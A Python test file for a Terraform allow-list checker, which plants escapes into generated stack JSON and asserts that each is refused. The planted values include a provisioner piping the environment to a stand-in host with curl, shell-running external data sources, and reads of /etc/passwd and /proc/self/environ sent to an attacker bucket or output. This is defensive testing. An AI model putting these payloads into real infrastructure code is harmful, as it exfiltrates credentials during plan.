"""The stack allow-list on documents: what the compiler emits passes; each way to run code, read data or send
credentials elsewhere during `terraform plan`, planted into a real stack of the example, is refused by name.
(tests/delivery/test_planted_pull_requests.py plants the same and more into a pull request's git tree.)"""

import copy
import json
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from modules.plan.layout import plan
from modules.registry.validate import load_registry
from modules.review.allowlist import DATA_SOURCES, FUNCTIONS, RESOURCE_TYPES, problems
from modules.review.bodies import READS_FILES
from modules.review.hclscan import Found, Unscannable, scan_document, scan_template
from modules.review.placement import PLACEMENT, alias
from modules.review.stackshape import PROVIDER_VERSION, REQUIRED_PROVIDERS, expect
from modules.review.strictjson import StrictJsonError, loads, shown
from tests.helpers import EXAMPLE, TESTS

ROOT = TESTS.parent
MODE = '${var.access_mode == "plan" ? "northwind-plan" : "OrganizationAccountAccessRole"}'


@pytest.fixture(scope="module")
def example_expect():
    reg = load_registry(EXAMPLE)
    return expect(plan(reg), tuple(reg.organization.allowed_regions))


def _docs(out):
    return {p.parent.name: json.loads(p.read_text()) for p in (out / "stacks").glob("*/cdk.tf.json")}


def test_the_example_and_every_valid_fixture_pass_and_use_exactly_the_listed_types_and_functions(
    example_out, synthesized_fixture, example_expect
):
    from tests.synth.test_safety import VALID

    resources, data, calls = set(), set(), Found()
    placed: dict[tuple[str, str], set[str]] = {}
    cases = [(EXAMPLE, example_out)] + [synthesized_fixture(case) for case in VALID]
    for registry, out in cases:
        reg = load_registry(registry)
        e = expect(plan(reg), tuple(reg.organization.allowed_regions))
        for name, doc in _docs(out).items():
            assert problems(name, doc, e) == [], (registry, name)
            resources |= set(doc.get("resource", {}))
            data |= set(doc.get("data", {}))
            for section in ("resource", "data"):
                for tf_type, items in doc.get(section, {}).items():
                    for body in items.values():
                        placed.setdefault((e.kinds[name], alias(body)), set()).add(f"{section}:{tf_type}")
            scan_document(doc, calls)
            assert doc["terraform"]["required_providers"] == REQUIRED_PROVIDERS, f"the provider is no longer {PROVIDER_VERSION}"
    assert resources <= RESOURCE_TYPES, f"add to modules/review/allowlist.py: {sorted(resources - RESOURCE_TYPES)}"
    assert data <= DATA_SOURCES, sorted(data - DATA_SOURCES)
    # The function list is exactly what the compiler writes: a new function fails here until the list knows it, and
    # a function the compiler stopped writing leaves the list (it stays short).
    assert calls.calls == FUNCTIONS, f"update allowlist.FUNCTIONS to {sorted(calls.calls)}"
    # where each type goes is exactly what the compiler writes, kind of stack by kind of stack, provider by provider
    assert {k: frozenset(v) for k, v in placed.items()} == PLACEMENT, "update modules/review/placement.py"


def _set(path, value):
    def plant(d):
        node = d
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value

    return plant


DEV = "pricing-dev"
DEV_ID = '${data.terraform_remote_state.pricing-access.outputs.account_ids["pricing-dev"]}'
CHURN_PROD = '${data.terraform_remote_state.churn-access.outputs.account_ids["churn-prod"]}'
PLANTED = [
    ("http data source", lambda d: d["data"].update({"http": {"x": {"url": "https://evil.example"}}}), 'data source "http" is not allowed'),
    (
        "external data source",
        lambda d: d["data"].update({"external": {"x": {"program": ["sh", "-c", "env"]}}}),
        'data source "external" is not allowed',
    ),
    (
        "external provider",
        lambda d: d["terraform"]["required_providers"].update({"external": {"source": "hashicorp/external"}}),
        'terraform.required_providers."external": not allowed here',
    ),
    (
        "aws from another source",
        lambda d: d["terraform"]["required_providers"]["aws"].update({"source": "evil/aws"}),
        'terraform.required_providers.aws.source: "evil/aws" where the compiler writes "hashicorp/aws"',
    ),
    ("a second provider", lambda d: d["provider"].update({"null": [{}]}), "provider: only `aws`, as a list of configurations"),
    ("null_resource", lambda d: d["resource"].update({"null_resource": {"x": {}}}), 'resource type "null_resource" is not allowed'),
    (
        "local-exec provisioner",
        lambda d: d["resource"]["aws_vpc"]["vpc"].update({"provisioner": [{"local-exec": {"command": "env | curl -d @- evil.example"}}]}),
        "resource aws_vpc.vpc: `provisioner` is not allowed",
    ),
    ("a module", lambda d: d.update({"module": {"m": {"source": "git::evil"}}}), 'top-level block "module" is not allowed'),
    ("a check block", lambda d: d.update({"check": {"c": {}}}), 'top-level block "check" is not allowed'),
    ("locals", lambda d: d.update({"locals": {"x": '${file("/etc/passwd")}'}}), 'top-level block "locals" is not allowed'),
    (
        "http backend",
        lambda d: d["terraform"].update({"backend": {"http": {"address": "https://evil.example"}}}),
        'terraform.backend."http": not allowed here',
    ),
    (
        "another state bucket",
        _set(["terraform", "backend", "s3", "bucket"], "evil-bucket"),
        'terraform.backend.s3.bucket: "evil-bucket" where the compiler writes "northwind-terraform-state"',
    ),
    (
        "backend endpoint",
        lambda d: d["terraform"]["backend"]["s3"].update({"endpoints": {"s3": "https://evil.example"}}),
        'terraform.backend.s3."endpoints": not allowed here',
    ),
    (
        "another stack's state key",
        _set(["terraform", "backend", "s3", "key"], "organization/terraform.tfstate"),
        "terraform.backend.s3.key:",
    ),
    ("terraform cloud", lambda d: d["terraform"].update({"cloud": {"organization": "evil"}}), 'terraform."cloud": not allowed here'),
    (
        "an older Terraform",
        _set(["terraform", "required_version"], ">=0.12"),
        'terraform.required_version: ">=0.12" where the compiler writes ">=1.10.0"',
    ),
    ("no required_version", lambda d: d["terraform"].pop("required_version"), "terraform.required_version: missing"),
    ("an unknown variable", lambda d: d["variable"].update({"token": {}}), 'variable "token": not allowed (only access_mode)'),
    (
        "a role name passed in again",
        _set(["variable", "access_mode", "default"], "OrganizationAccountAccessRole"),
        "variable access_mode: not the shape the compiler writes",
    ),
    (
        "provider endpoints",
        lambda d: d["provider"]["aws"][0].update({"endpoints": [{"sts": "https://evil.example"}]}),
        'provider.aws[0]."endpoints": not allowed',
    ),
    (
        "provider proxy, insecure",
        lambda d: d["provider"]["aws"][0].update({"http_proxy": "http://evil.example:3128", "insecure": True}),
        'provider.aws[0]."http_proxy": not allowed',
    ),
    (
        "provider custom CA and credentials file",
        lambda d: d["provider"]["aws"][0].update({"custom_ca_bundle": "/tmp/ca.pem", "shared_credentials_files": ["/tmp/c"]}),
        'provider.aws[0]."custom_ca_bundle": not allowed',
    ),
    (
        "assume_role into another account",
        _set(["provider", "aws", 0, "assume_role", 0, "role_arn"], f"arn:aws:iam::999999999999:role/{MODE}"),
        "provider.aws[0].assume_role.role_arn:",
    ),
    (
        "assume_role with a fixed role",
        _set(["provider", "aws", 0, "assume_role", 0, "role_arn"], f"arn:aws:iam::{DEV_ID}:role/Admin"),
        "is not a role the compiler assumes for this stack",
    ),
    (
        "assume_role into another team's account (known to the registry)",
        _set(["provider", "aws", 0, "assume_role", 0, "role_arn"], f"arn:aws:iam::{CHURN_PROD}:role/{MODE}"),
        "provider.aws[0].assume_role.role_arn:",
    ),
    (
        "assume_role into the log archive from a team stack",
        _set(["provider", "aws", 2, "assume_role", 0, "role_arn"], f"arn:aws:iam::300000000003:role/{MODE}"),
        "provider.aws[2].assume_role.role_arn:",
    ),
    (
        "an output naming another account",
        _set(["output", "account_id", "value"], "100000000001"),
        'output "account_id".value: "100000000001" where the compiler writes "${data.terraform_remote_state',
    ),
    (
        "an output of another stack's domain",
        _set(["output", "domain_id", "value"], '${data.terraform_remote_state.identity.outputs.user_ids["amara"]}'),
        "where the compiler writes a reference to this stack's own aws_sagemaker_domain.<name>.id",
    ),
    (
        "a RAM share ARN of someone else",
        _set(["output", "ram_share_arns", "value", "price-elasticity-pipeline"], "arn:aws:ram:eu-west-1:999999999999:resource-share/x"),
        'output "ram_share_arns".value:',
    ),
    ("an output of its own", lambda d: d["output"].update({"x": {"value": "y"}}), 'output "x": not an output the compiler writes'),
    (
        "an object uploaded from a file of the applying machine",
        lambda d: d["resource"].update(
            {"aws_s3_object": {"x": {"bucket": "attacker-bucket", "key": "env", "source": "/proc/self/environ"}}}
        ),
        "resource aws_s3_object.x.source: reads a file of the machine that applies",
    ),
    (
        "a Studio lifecycle script of its own",
        _set(["resource", "aws_sagemaker_studio_lifecycle_config", "libraries-pip-jupyterlab", "studio_lifecycle_config_content"], "ZW52"),
        "studio_lifecycle_config_content: not the compiler's script for this account's libraries",
    ),
    (
        "an IAM role in the management account, from a team's stack",
        lambda d: d["resource"].update(
            {"aws_iam_role": {**d["resource"]["aws_iam_role"], "x": {"name": "x", "provider": "aws.management"}}}
        ),
        'resource aws_iam_role."x": the compiler writes no aws_iam_role through the management provider of account stacks',
    ),
    (
        "a block through a provider of no stack",
        _set(["resource", "aws_vpc", "vpc", "provider"], "evil.x"),
        'resource aws_vpc."vpc".provider: "evil.x" is not one of the stack\'s AWS providers',
    ),
    (
        "a CodeBuild project in a team stack",
        lambda d: d["resource"].update({"aws_codebuild_project": {"x": {"name": "x"}}}),
        "resource aws_codebuild_project.x: a CodeBuild project outside shared services",
    ),
    (
        "a hidden output",
        lambda d: d["output"]["domain_id"].update({"sensitive": True}),
        'output "domain_id": only a value and a description',
    ),
    (
        "assume_role with extra keys",
        lambda d: d["provider"]["aws"][0]["assume_role"][0].update({"external_id": "x", "duration": "12h"}),
        "provider.aws[0].assume_role: exactly one {role_arn, session_name}",
    ),
    (
        "web identity",
        lambda d: d["provider"]["aws"][0].update({"assume_role_with_web_identity": [{"role_arn": "x", "web_identity_token_file": "/t"}]}),
        'provider.aws[0]."assume_role_with_web_identity": not allowed',
    ),
    ("an unknown region", _set(["provider", "aws", 0, "region"], "us-east-1"), 'provider.aws[0].region: "us-east-1" is not a region'),
    (
        "remote state over http",
        lambda d: d["data"]["terraform_remote_state"].update(
            {"identity": {"backend": "http", "config": {"address": "https://evil.example"}}}
        ),
        'data terraform_remote_state.identity.backend: "http" where the compiler writes "s3"',
    ),
    (
        "remote state of no stack",
        lambda d: d["data"]["terraform_remote_state"].update({"x": {"backend": "s3", "config": {}}}),
        'data terraform_remote_state."x": not another stack of the registry',
    ),
    (
        "output of the environment, base64",
        lambda d: d.setdefault("output", {}).update({"x": {"value": '${base64encode(file("/proc/self/environ"))}'}}),
        'an expression calls "base64encode"()',
    ),
    (
        "a call under a comment key of an object value",
        lambda d: d["output"].update({"x": {"value": {"//": '${base64encode(file("/proc/self/environ"))}'}}}),
        'an expression calls "base64encode"()',
    ),
    (
        "a call after a conditional's colon",
        lambda d: d["output"].update({"x": {"value": '${false?1:base64encode(false?1:file("/proc/self/environ"))}'}}),
        'a parenthesis after "1:base64encode", which is not a function name',
    ),
    (
        "a call after a minus",
        lambda d: d["output"].update({"x": {"value": '${1-file("/proc/self/environ")}'}}),
        'a parenthesis after "1-file", which is not a function name',
    ),
    (
        "a call hidden in a nested template",
        _set(["resource", "aws_vpc", "vpc", "cidr_block"], '${"${file("/proc/self/environ")}"}'),
        'an expression calls "file"()',
    ),
    (
        "a provider-defined function",
        _set(["resource", "aws_vpc", "vpc", "cidr_block"], '${provider::aws::arn_parse("x").region}'),
        'an expression calls "provider::aws::arn_parse"()',
    ),
    ("a directive", _set(["resource", "aws_vpc", "vpc", "cidr_block"], "%{ if true }x%{ endif }"), "a template directive"),
    ("a heredoc", _set(["resource", "aws_vpc", "vpc", "cidr_block"], "${<<EOT\nx\nEOT\n}"), "a comment or heredoc"),
    ("an array where blocks go", lambda d: d.update({"data": [{"external": {"x": {}}}]}), "data: a JSON list where the compiler"),
    (
        "an array where one block goes",
        _set(["resource", "aws_vpc", "vpc"], [{"cidr_block": "10.0.0.0/16"}, {"provisioner": []}]),
        "resource aws_vpc.vpc: a JSON list where the compiler writes one block body",
    ),
    ("a removed block with a provisioner", lambda d: d.update({"removed": [{"from": "x", "provisioner": []}]}), "removed[0]: only"),
    ("an import of another kind", lambda d: d.update({"import": [{"id": "x", "to": "aws_vpc.vpc", "for_each": "x"}]}), "import[0]: only"),
]


@pytest.mark.parametrize("what, plant, message", PLANTED, ids=[p[0] for p in PLANTED])
def test_planted_escapes_are_refused(example_out, example_expect, what, plant, message):
    doc = json.loads((example_out / "stacks" / DEV / "cdk.tf.json").read_text())
    assert problems(DEV, doc, example_expect) == []
    planted = copy.deepcopy(doc)
    plant(planted)
    found = problems(DEV, planted, example_expect)
    assert any(message in line for line in found), found
    assert all(line.startswith(f'"{DEV}": ') for line in found)


def test_strict_json_refuses_what_terraform_and_python_read_differently():
    with pytest.raises(StrictJsonError, match='repeats the key "data"'):
        loads(b'{"data": {}, "data": {"external": {}}}')
    with pytest.raises(StrictJsonError, match="NaN is not JSON"):
        loads(b'{"x": NaN}')
    with pytest.raises(StrictJsonError, match="not UTF-8"):
        loads(b'{"x": "\xff"}')
    with pytest.raises(StrictJsonError, match="not valid JSON"):
        loads(b'{"x": ')
    with pytest.raises(StrictJsonError, match="nested too deeply"):
        loads(b"[" * 100000 + b"]" * 100000)


def _refused(template):
    found = Found()
    try:
        scan_template(template, found)
    except Unscannable:
        return True
    return bool(found.calls - FUNCTIONS)


def test_the_scan_reads_escapes_as_terraform_does_and_fails_closed():
    found = Found()
    scan_template('$${file(x)} %%{ if } ${contains(["a("], var.access_mode)} ${!contains([], "(")}', found)
    assert found.calls == {"contains"}, "escaped templates are text; a parenthesis inside a quoted string is not a call"
    hidden = ['${"}" == file("x")}', '${x ? "a" : base64encode("B")}', "${{a = upper(b)}}", '${"${file("x")}"}']
    # every `(` must directly follow an allowed name: a space, a digit, a colon, a dot or nothing before it is refused
    hidden += ["${ tolist (x)}", '${1:file("x")}', '${false?1:file("x")}', '${1-file("x")}', "${(1)}", "${x.contains(1)}"]
    hidden += ["${contains\n(x)}", "${contains/**/(x)}", '${"a"(x)}']
    for template in hidden:
        assert _refused(template), template
    for unscannable in ("${x", '${"x', "${x # c\n}", "${é(x)}", "${ (x)}"):
        with pytest.raises(Unscannable):
            scan_template(unscannable, Found())


def test_a_comment_key_is_scanned_too():
    """Terraform ignores `//` only in a block body; in an attribute's object value it is a key whose value runs."""
    found = Found()
    scan_document({"output": {"x": {"value": {"//": '${file("/proc/self/environ")}'}}}}, found)
    assert found.calls == {"file"}


def test_names_from_a_pull_request_are_shown_quoted_on_one_line():
    assert shown("x` <!--\n::error::y") == '"x\\u0060 <!--\\n::error::y"'


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=8,
)


def _paths(value, path=()):
    yield path
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in items:
        yield from _paths(item, (*path, key))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_value_anywhere_in_a_stack_is_refused_or_accepted_never_crashed_on(example_out, example_expect, data):
    """A pull request controls every byte: whatever JSON replaces whatever node, the check answers with lines."""
    doc = json.loads((example_out / "stacks" / DEV / "cdk.tf.json").read_text())
    paths = [p for p in _paths(doc) if p and len(p) <= 6]
    path = data.draw(st.sampled_from(paths))
    _set(list(path), data.draw(JSON))(doc)
    found = problems(DEV, doc, example_expect)
    assert isinstance(found, list) and all(isinstance(line, str) for line in found)


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from('${}%"\\()#/<a-_:.é ?\n'), max_size=40))
def test_the_scan_answers_or_refuses_any_template(template):
    try:
        scan_template(template, Found())
    except Unscannable:
        pass


SHARED = "shared-services"
SEED = ["resource", "aws_codebuild_project", "seed-push"]
PLANTED_SHARED = [
    ("another buildspec", _set([*SEED, "source", "buildspec"], "version: 0.2\nphases: {build: {commands: [env]}}"), ".source: {"),
    ("another image", _set([*SEED, "environment", "image"], "evil/image:latest"), ".environment: {"),
    (
        "an environment variable",
        lambda d: d["resource"]["aws_codebuild_project"]["seed-push"]["environment"].update({"environment_variable": [{"name": "X"}]}),
        ".environment: {",
    ),
    ("a secondary source", _set([*SEED, "secondary_sources"], [{"type": "GITHUB"}]), '."secondary_sources": not an argument the compiler'),
    (
        "a role of another account",
        _set([*SEED, "service_role"], "arn:aws:iam::999999999999:role/x"),
        ".service_role: not a role of this stack",
    ),
    (
        "a template from elsewhere",
        _set(
            ["resource", "aws_servicecatalog_provisioning_artifact", "artifact-batch-inference-0_3_1", "template_url"],
            "https://evil.example/t",
        ),
        'template_url: "https://evil.example/t" is not an object of this stack\'s own bucket',
    ),
]


@pytest.mark.parametrize("what, plant, message", PLANTED_SHARED, ids=[p[0] for p in PLANTED_SHARED])
def test_what_shared_services_runs_is_the_compilers(example_out, example_expect, what, plant, message):
    doc = json.loads((example_out / "stacks" / SHARED / "cdk.tf.json").read_text())
    assert problems(SHARED, doc, example_expect) == []
    plant(doc)
    found = problems(SHARED, doc, example_expect)
    assert any(message in line for line in found), found


FILE_LIKE = re.compile(r"(^|_)(source|file|filename|path)$")
NOT_FILES = {  # paths in AWS, not on the machine that applies: IAM paths, S3 prefixes, EFS folders
    ("aws_iam_policy", "path"),
    ("aws_iam_role", "path"),
    ("aws_codebuild_project", "artifacts.path"),
    ("aws_codebuild_project", "secondary_artifacts.path"),
    *[
        (t, f"{prefix}{p}")
        for t, prefix in (("aws_sagemaker_domain", "default_user_settings."), ("aws_sagemaker_user_profile", "user_settings."))
        for p in ("canvas_app_settings.workspace_settings.s3_artifact_path", "sharing_settings.s3_output_path")
    ],
    *[
        (t, f"{prefix}custom_file_system_config.efs_file_system_config.file_system_path")
        for t, prefix in (
            ("aws_sagemaker_domain", "default_user_settings."),
            ("aws_sagemaker_domain", "default_space_settings."),
            ("aws_sagemaker_user_profile", "user_settings."),
        )
    ],
}


def test_every_argument_that_could_name_a_local_file_is_known():
    """A tripwire for new resource types: every settable argument named like a path in the allowed types is either
    refused (READS_FILES) or known not to be one (an IAM path)."""
    from tests.terraform import schema

    resources = schema.load()["resources"]

    def names(block, path=()):
        for name, attr in block.get("attrs", {}).items():
            if attr[1] != "c":
                yield (*path, name)
        for name, nested in block.get("blocks", {}).items():
            yield from names(nested[3], (*path, name))

    found = {(t, ".".join(p)) for t in RESOURCE_TYPES for p in names(resources[t]) if FILE_LIKE.search(p[-1])}
    known = {(t, a) for t, attrs in READS_FILES.items() for a in attrs} | NOT_FILES
    assert found == known, f"decide for each: {sorted(found ^ known)}"


ACCESS = "pricing-access"
PLANTED_IN_ACCESS = [
    (
        "an account id output naming another account",
        _set(["output", "account_ids", "value", "pricing-dev"], "100000000001"),
        'output "account_ids".value: ',
    ),
    (
        "an account id output of another team's account",
        lambda d: d["output"]["account_ids"]["value"].update({"recsys-dev": "${aws_organizations_account.account-pricing-dev.id}"}),
        'output "account_ids".value: ',
    ),
    (
        "an import that takes over another account",
        _set(["import", 0, "id"], "999999999999"),
        'import[0].id: "999999999999" where the compiler writes "012345678901"',
    ),
    (
        "an import of an account the stack does not hold",
        lambda d: d["import"].append({"to": "aws_organizations_account.account-recsys-dev", "id": "222222222222"}),
        'import[1]: "aws_organizations_account.account-recsys-dev" is not an address the compiler imports in this stack',
    ),
    (
        "an account through the shared services provider",
        _set(["resource", "aws_organizations_account", "account-pricing-dev", "provider"], "aws.shared-services"),
        "the compiler writes no aws_organizations_account through the shared-services provider of access stacks",
    ),
]


@pytest.mark.parametrize("what, plant, message", PLANTED_IN_ACCESS, ids=[p[0] for p in PLANTED_IN_ACCESS])
def test_an_access_stack_holds_only_its_own_accounts(example_out, example_expect, what, plant, message):
    """An access stack holds its team's accounts: which account its `account_ids` output and its imports name decides
    which account every team stack's provider reaches and which account Terraform manages."""
    doc = json.loads((example_out / "stacks" / ACCESS / "cdk.tf.json").read_text())
    assert problems(ACCESS, doc, example_expect) == []
    planted = copy.deepcopy(doc)
    plant(planted)
    found = problems(ACCESS, planted, example_expect)
    assert any(message in line for line in found), found


def test_an_account_in_a_team_accounts_stack_is_refused(example_out, example_expect):
    doc = json.loads((example_out / "stacks" / DEV / "cdk.tf.json").read_text())
    doc["resource"]["aws_organizations_account"] = {"x": {"name": "x", "email": "x@example.com"}}
    assert any(
        "the compiler writes no aws_organizations_account through the default provider of account stacks" in p
        for p in problems(DEV, doc, example_expect)
    )


def test_a_moving_accounts_lookup_import_is_the_compilers(synthesized_fixture):
    """At the import and forget steps an access stack imports each created account by its email: another email (or
    expression) would take another account over."""
    from tests.synth.test_safety import VALID

    (case,) = [c for c in VALID if c.name == "account-moves"]
    registry, out = synthesized_fixture(case)
    reg = load_registry(registry)
    e = expect(plan(reg), tuple(reg.organization.allowed_regions))
    doc = json.loads((out / "stacks" / "risk-access" / "cdk.tf.json").read_text())
    lookup = next(i for i in doc["import"] if i["to"].endswith("account-risk-dev"))
    assert lookup["id"] == (
        "${one([for a in data.aws_organizations_organization.organization-lookup.accounts : a.id if lower(a.email) == "
        'lower("aws+risk-dev@acme.example")])}'
    )
    assert problems("risk-access", doc, e) == []
    lookup["id"] = lookup["id"].replace("risk-dev@", "risk-prod@")
    assert any("import[" in p and "where the compiler writes" in p for p in problems("risk-access", doc, e))
